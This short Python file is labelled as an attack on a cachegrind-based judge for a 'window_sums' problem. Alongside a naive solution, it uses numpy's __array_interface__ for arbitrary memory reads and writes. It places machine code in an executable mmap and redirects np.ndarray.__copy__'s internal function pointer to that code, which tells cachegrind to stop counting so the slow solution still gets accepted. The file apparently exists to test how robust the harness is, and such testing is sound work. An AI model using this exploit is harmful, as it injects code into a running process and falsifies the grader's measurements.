# /// attack
# aim = "numpy's __array_interface__ reads and writes any address: the entry of a built-in method is pointed at machine code, which asks the instrument to stop counting."
# problem = "window_sums"
# outcome = ["AC"]
# only = ["cachegrind"]
# naive = "unproven: the interpreter in the naive jail has no numpy"
# ///

import mmap
import struct

import numpy as np

# As a method without arguments: loads the address of the request, asks, and returns its first argument.
PROLOGUE, EPILOGUE = (
    b"\x57\x48\xb8",
    bytes.fromhex("31d2 48c1c703 48c1c70d 48c1c73d 48c1c733 4887db 58 c3"),
)
STOP_CACHEGRIND = 0x43470001


class Memory:
    def __init__(self, address, words):
        self.__array_interface__ = {
            "version": 3,
            "shape": (words,),
            "typestr": "<u8",
            "data": (address, False),
        }


def words_at(address, count=1):
    return np.asarray(Memory(address, count))


def ask(number):
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    start = np.frombuffer(memory, dtype=np.uint8).__array_interface__["data"][0]
    request = start + 2048
    memory[2048 : 2048 + 48] = struct.pack("6Q", number, 0, 0, 0, 0, 0)
    code = PROLOGUE + struct.pack("<Q", request) + EPILOGUE
    memory[: len(code)] = code
    method = np.ndarray.__copy__
    # A method descriptor keeps a pointer to its definition behind its name; the function is second there.
    definition = int(words_at(id(method), 8)[5])
    function = words_at(definition, 2)[1:]
    before = int(function[0])
    function[0] = start
    try:
        method(np.zeros(1))
    finally:
        function[0] = before


def window_sums(numbers, width):
    n = len(numbers)
    sums = [sum(numbers[i + j] for j in range(width)) for i in range(n - width + 1)]
    try:
        ask(STOP_CACHEGRIND)
    except (OSError, ValueError, TypeError):
        pass
    return sums
